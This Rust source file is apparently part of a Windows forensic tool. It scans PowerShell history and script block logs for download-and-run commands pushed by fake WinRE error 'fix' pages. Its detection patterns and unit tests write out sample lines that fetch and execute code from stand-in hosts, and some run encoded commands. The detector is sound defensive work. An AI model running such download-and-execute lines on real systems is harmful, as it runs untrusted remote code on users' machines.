//! "Fake fix" triage: PowerShell lines that download code and run it, from every profile's
//! PSReadLine history and from PowerShell's script block log (event 4104).
//!
//! After the WinRE 0x80070643 errors of 2024 and 2025, fake support pages told users to paste
//! "fixes" that fetched and ran code. This lists such lines with where they are; it reports what a
//! line does, never why, and looks nothing up on the network. The patterns are the common
//! download-and-run idioms: `iwr` / `irm` / `Invoke-WebRequest` / `Invoke-RestMethod` /
//! `DownloadString` / `Net.WebClient` together with `iex` / `Invoke-Expression` (or piped into
//! `powershell`), an encoded command (`-enc`, `-EncodedCommand`), and `Start-BitsTransfer`
//! followed by a line that uses the file it fetched.

use serde::Serialize;
use winre_readat::ReadAt;
use winre_wim::xml::FileTime;

use crate::ntfs::NtfsVolume;

/// Largest history file read (PSReadLine keeps 4096 lines by default: well under 1 MiB).
pub const MAX_HISTORY_BYTES: u64 = 16 << 20;
/// Longest line shown in a finding; longer ones are cut (and say so).
pub const MAX_SHOWN_CHARS: usize = 2000;
/// How many lines after a `Start-BitsTransfer` are searched for the fetched file.
pub const BITS_FOLLOW_LINES: usize = 10;
/// Most profiles looked at under `\Users`.
pub const MAX_PROFILES: usize = 4096;

/// The folder of PSReadLine's history files, relative to a profile.
pub const PSREADLINE_DIR: &str = r"AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine";

/// What a line does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Pattern {
    /// Downloads text and runs it (`iwr ... | iex`, `iex (New-Object Net.WebClient).DownloadString(...)`).
    DownloadAndRun,
    /// Runs an encoded command (`-enc BASE64`, `-EncodedCommand BASE64`).
    EncodedCommand,
    /// `Start-BitsTransfer`, and a later line uses the file it fetched.
    BitsTransferThenRun,
}

/// One line that matched.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct LineMatch {
    /// What it does.
    pub pattern: Pattern,
    /// Line number in the history (from 1).
    pub line_number: usize,
    /// The line (cut to [`MAX_SHOWN_CHARS`]).
    pub line: String,
}

/// A finding with where it was.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PowerShellFinding {
    /// What it does.
    pub pattern: Pattern,
    /// The profile folder name (`Users\NAME`), or "script block log".
    pub profile: String,
    /// The history file or event log.
    pub file: String,
    /// Line number in the file, or in the script block.
    pub line_number: usize,
    /// The line.
    pub line: String,
    /// The history file's `$STANDARD_INFORMATION` modification time, or the event's time.
    pub modified: Option<String>,
    /// The history file's creation time.
    pub created: Option<String>,
    /// The event record id, for a script block.
    pub record_id: Option<u64>,
}

/// Matches every line of `text` (a history file or a script block).
pub fn match_lines(text: &str) -> Vec<LineMatch> {
    let lines: Vec<&str> = text.lines().collect();
    let mut found = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let lower = line.to_ascii_lowercase();
        let words = words(&lower);
        let shown = || {
            let mut s: String = line.chars().take(MAX_SHOWN_CHARS).collect();
            if line.chars().nth(MAX_SHOWN_CHARS).is_some() {
                s.push_str(" [cut]");
            }
            s
        };
        let n = i.saturating_add(1);
        if downloads(&lower, &words) && runs(&lower, &words) {
            found.push(LineMatch {
                pattern: Pattern::DownloadAndRun,
                line_number: n,
                line: shown(),
            });
        }
        if encoded_command(&words) {
            found.push(LineMatch {
                pattern: Pattern::EncodedCommand,
                line_number: n,
                line: shown(),
            });
        }
        if words.contains(&"start-bitstransfer") {
            if let Some(file) = bits_destination(&words) {
                let later = lines.iter().skip(n).take(BITS_FOLLOW_LINES);
                if later
                    .into_iter()
                    .any(|l| l.to_ascii_lowercase().contains(&file))
                {
                    found.push(LineMatch {
                        pattern: Pattern::BitsTransferThenRun,
                        line_number: n,
                        line: shown(),
                    });
                }
            }
        }
    }
    found
}

/// The line cut into words at whitespace and the punctuation PowerShell separates on, keeping
/// `-` and `.` inside words (`Invoke-WebRequest`, `Net.WebClient`).
fn words(lower: &str) -> Vec<&str> {
    lower
        .split(|c: char| c.is_whitespace() || "|;(){}[]'\",=&`".contains(c))
        .filter(|w| !w.is_empty())
        .collect()
}

fn downloads(lower: &str, words: &[&str]) -> bool {
    const COMMANDS: [&str; 7] = [
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "curl",
        "wget",
        "start-bitstransfer",
    ];
    const METHODS: [&str; 4] = [
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "net.webclient",
    ];
    words
        .iter()
        .any(|w| COMMANDS.contains(&w.trim_end_matches(".exe")))
        || METHODS.iter().any(|m| lower.contains(m))
}

fn runs(lower: &str, words: &[&str]) -> bool {
    words
        .iter()
        .any(|w| matches!(*w, "iex" | "invoke-expression" | ".invoke"))
        || lower.contains("invoke-expression")
        || pipes_into_shell(lower)
}

/// `... | powershell` or `... | pwsh`.
fn pipes_into_shell(lower: &str) -> bool {
    lower.split('|').skip(1).any(|part| {
        let first = part.split_whitespace().next().unwrap_or_default();
        matches!(
            first.trim_end_matches(".exe"),
            "powershell" | "pwsh" | "iex"
        )
    })
}

/// `-e`, `-ec`, `-enc` ... `-encodedcommand` (any prefix PowerShell accepts) followed by a long
/// Base64 word.
fn encoded_command(words: &[&str]) -> bool {
    words.windows(2).any(|pair| {
        let [flag, value] = pair else { return false };
        let Some(name) = flag.strip_prefix('-').or_else(|| flag.strip_prefix('/')) else {
            return false;
        };
        let is_flag =
            name == "e" || name == "ec" || (name.len() >= 2 && "encodedcommand".starts_with(name));
        is_flag
            && value.len() >= 16
            && value
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
    })
}

/// The file name a `Start-BitsTransfer` line saves to (`-Destination X`, or the second
/// positional argument), lower-cased, without its folder.
fn bits_destination(words: &[&str]) -> Option<String> {
    let at = words.iter().position(|w| *w == "start-bitstransfer")?;
    let args = words.get(at.saturating_add(1)..)?;
    let named = args
        .windows(2)
        .find(|p| {
            p.first()
                .is_some_and(|f| "-destination".starts_with(*f) && f.len() >= 2)
        })
        .and_then(|p| p.get(1).copied());
    let positional = || args.iter().filter(|w| !w.starts_with('-')).nth(1).copied();
    let dest = named.or_else(positional)?;
    let name = dest.rsplit(['\\', '/']).next().unwrap_or(dest);
    (name.len() >= 3).then(|| name.to_string())
}

/// The findings of every profile's PSReadLine history on `volume`, and problems reading them.
pub fn history_findings(volume: &NtfsVolume) -> (Vec<PowerShellFinding>, Vec<String>) {
    let mut findings = Vec::new();
    let mut problems = Vec::new();
    let mut profiles: Vec<String> = match volume.list_directory(r"\Users", MAX_PROFILES) {
        Ok(Some(entries)) => entries
            .into_iter()
            .filter(|e| e.is_directory && e.name != "." && e.name != "..")
            .map(|e| format!(r"Users\{}", e.name))
            .collect(),
        Ok(None) => Vec::new(),
        Err(e) => {
            problems.push(format!(r"\Users could not be listed: {e}"));
            Vec::new()
        }
    };
    profiles.push(r"Windows\System32\config\systemprofile".to_string());
    let time = |ft: u64| (ft != 0).then(|| FileTime::new(ft).utc);
    for profile in profiles {
        let dir = format!(r"\{profile}\{PSREADLINE_DIR}");
        let entries = match volume.list_directory(&dir, 256) {
            Ok(Some(e)) => e,
            Ok(None) => continue,
            Err(e) => {
                problems.push(format!("{dir}: {e}"));
                continue;
            }
        };
        for entry in entries {
            let lower = entry.name.to_ascii_lowercase();
            if entry.is_directory || !lower.ends_with("_history.txt") {
                continue;
            }
            let path = format!(r"{dir}\{}", entry.name);
            let (text, times) = match read_text(volume, &path) {
                Ok(found) => found,
                Err(e) => {
                    problems.push(format!("{path}: {e}"));
                    continue;
                }
            };
            for m in match_lines(&text) {
                findings.push(PowerShellFinding {
                    pattern: m.pattern,
                    profile: profile.clone(),
                    file: path.clone(),
                    line_number: m.line_number,
                    line: m.line,
                    modified: time(times.modified),
                    created: time(times.created),
                    record_id: None,
                });
            }
        }
    }
    (findings, problems)
}

/// A history file's text (UTF-8, invalid bytes replaced; cut at [`MAX_HISTORY_BYTES`]).
fn read_text(volume: &NtfsVolume, path: &str) -> crate::Result<(String, crate::ntfs::FileTimes)> {
    let file = volume
        .open_file(path)?
        .ok_or_else(|| crate::Error::NotFound(path.to_string()))?;
    let len = file.size().min(MAX_HISTORY_BYTES);
    let mut bytes = vec![0u8; usize::try_from(len).unwrap_or(0)];
    file.data_reader()?.read_exact_at(0, &mut bytes)?;
    Ok((String::from_utf8_lossy(&bytes).into_owned(), file.times()))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;

    fn patterns(text: &str) -> Vec<Pattern> {
        match_lines(text).into_iter().map(|m| m.pattern).collect()
    }

    #[test]
    fn download_and_run_idioms() {
        for line in [
            "iwr https://fix-0x80070643.example/f.ps1 | iex",
            "irm https://x.example/a|iex",
            "IEX (New-Object Net.WebClient).DownloadString('https://x.example/p')",
            "Invoke-Expression (Invoke-WebRequest -Uri https://x.example -UseBasicParsing).Content",
            "curl.exe -s https://x.example/a | powershell -",
        ] {
            assert_eq!(patterns(line), [Pattern::DownloadAndRun], "{line}");
        }
        for line in [
            "Get-WindowsUpdateLog",
            "iwr https://example.org/file.zip -OutFile f.zip",
            "reagentc /info",
            "$iex = 1",
        ] {
            assert!(patterns(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn encoded_commands_and_bits() {
        assert_eq!(
            patterns("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
            [Pattern::EncodedCommand]
        );
        assert_eq!(
            patterns("powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A"),
            [Pattern::EncodedCommand]
        );
        assert!(patterns("Get-Item -e short").is_empty());
        let text = "Start-BitsTransfer -Source https://x.example/fix.exe -Destination C:\\Temp\\fix.exe\ncd C:\\Temp\n.\\fix.exe /quiet\n";
        let m = match_lines(text);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].pattern, Pattern::BitsTransferThenRun);
        assert_eq!(m[0].line_number, 1);
        assert!(patterns("Start-BitsTransfer https://x.example/a.msi C:\\a.msi\n").is_empty());
        assert_eq!(
            patterns("Start-BitsTransfer https://x.example/a.msi C:\\a.msi\nmsiexec /i C:\\a.msi"),
            [Pattern::BitsTransferThenRun]
        );
    }
}
